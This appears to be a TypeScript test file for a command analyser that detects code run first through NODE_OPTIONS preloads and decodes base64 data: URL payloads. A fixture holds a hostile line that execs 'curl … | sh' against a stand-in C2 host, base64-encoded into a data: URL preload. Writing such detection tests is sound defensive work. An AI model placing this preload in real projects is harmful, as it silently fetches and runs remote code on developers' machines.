import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { analyzeCommand } from './index.ts';
import { decodeDataUrl, nodePreloads } from './node-options.ts';

const CODE = "require('child_process').exec('curl -s https://c2.example.invalid/x | sh')";
const DATA = `data:text/javascript;base64,${Buffer.from(CODE).toString('base64')}`;

describe('NODE_OPTIONS in commands', () => {
  const files: [string, string][] = [
    ["NODE_OPTIONS='-r ./config/boot.cjs' node index.js", 'config/boot.cjs'],
    ["cross-env NODE_OPTIONS='--import ./reg.mjs' next dev", 'reg.mjs'],
    ['env NODE_OPTIONS=--require=./hook.js npm test', 'hook.js'],
    ["cd api && NODE_OPTIONS='--experimental-loader ./loader.mjs' node main.js", 'api/loader.mjs'],
  ];
  for (const [command, file] of files) {
    it(`${command} runs ${file} first`, () => {
      assert.ok(analyzeCommand(command).runsFiles.some(r => r.file === file && r.interpreter.startsWith('node --')));
    });
  }

  it('a data: URL preload is a decoding signal and a JavaScript program', () => {
    for (const command of [`NODE_OPTIONS="--import ${DATA}" node app.js`, `node --import="${DATA}" app.js`]) {
      const a = analyzeCommand(command);
      assert.ok(
        a.signals.some(s => s.kind === 'base64-decode' && s.detail.includes('data: URL')),
        command,
      );
      assert.deepEqual(
        a.programs.map(p => p.code),
        [CODE],
      );
    }
  });

  it('package preloads and memory flags are tools, not files', () => {
    const a = analyzeCommand("NODE_OPTIONS='--require ts-node/register --max-old-space-size=4096' mocha");
    assert.deepEqual(a.runsFiles, []);
    assert.ok(a.tools.includes('ts-node'));
    assert.ok(!a.signals.some(s => s.kind === 'base64-decode'));
  });
});

describe('NODE_OPTIONS parsing', () => {
  it('reads -r, --require=, --import and quoted values', () => {
    assert.deepEqual(nodePreloads('-r ./a.js --import=./b.mjs "--loader" ./c.mjs --max-old-space-size=1'), [
      { flag: '--require', spec: './a.js' },
      { flag: '--import', spec: './b.mjs' },
      { flag: '--loader', spec: './c.mjs' },
    ]);
  });

  it('decodes base64 and percent-encoded data: URLs', () => {
    assert.equal(decodeDataUrl(DATA), CODE);
    assert.equal(decodeDataUrl('data:text/javascript,console.log(%22hi%22)'), 'console.log("hi")');
    assert.equal(decodeDataUrl('./x.js'), undefined);
  });
});
